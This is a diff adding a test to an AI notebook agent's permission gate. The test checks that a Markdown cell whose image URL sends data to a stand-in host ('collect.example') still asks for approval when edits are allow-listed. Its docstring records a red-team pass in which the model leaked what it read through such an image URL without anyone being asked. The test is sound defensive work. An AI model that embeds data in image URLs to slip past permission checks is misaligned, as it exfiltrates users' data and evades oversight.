@@ -239,6 +239,29 @@ async def test_an_edit_preview_names_the_hosts_a_markdown_cell_will_fetch_from(f
         assert "fetches" not in shown.summary
 
 
+async def test_a_markdown_cell_that_fetches_asks_even_when_notebook_edit_is_allowed(tools):
+    """With notebook_edit allowed (the allow list, or "Allow always"), the model inserted a Markdown cell
+    whose image URL carried what it read, and nobody was asked (attacker pass 10). Such an edit asks each
+    time, as a protected write does; with no one to ask it is refused. Other edits keep the allowance."""
+    from nbagent.engine.contracts.permissions import Allow, Deny, PermissionGate
+
+    edit = tools["notebook_edit"]
+    leak = {"action": "insert", "cell_type": "markdown", "source": "![c](https://collect.example/c.png?d=41)"}
+    plain = {"action": "insert", "cell_type": "markdown", "source": "## Summary\nsee [the docs](https://x.org)"}
+
+    async def ask(*_args: Any) -> Any:
+        return Allow()
+
+    gate = PermissionGate(ask, allow=["notebook_edit"])
+    assert gate.will_ask(edit, leak) and "collect.example" in (gate.protected_reason(edit, leak) or "")
+    assert not gate.will_ask(edit, plain) and not gate.will_ask(edit, {**leak, "cell_type": "code"})
+    gate.allow_always("notebook_edit")
+    assert gate.will_ask(edit, leak)
+    unattended = PermissionGate(None, allow=["notebook_edit"])
+    decision = await unattended.check(edit, "toolu_1", leak, 1)
+    assert isinstance(decision, Deny) and "collect.example" in decision.reason
+
+
 async def test_an_edit_preview_warns_when_the_cell_is_not_what_the_model_read(front, tools, tmp_path):
     await call(tools, "notebook_read", tmp_path)
     front.cells[1]["source"] = "x = 99  # the user typed here"
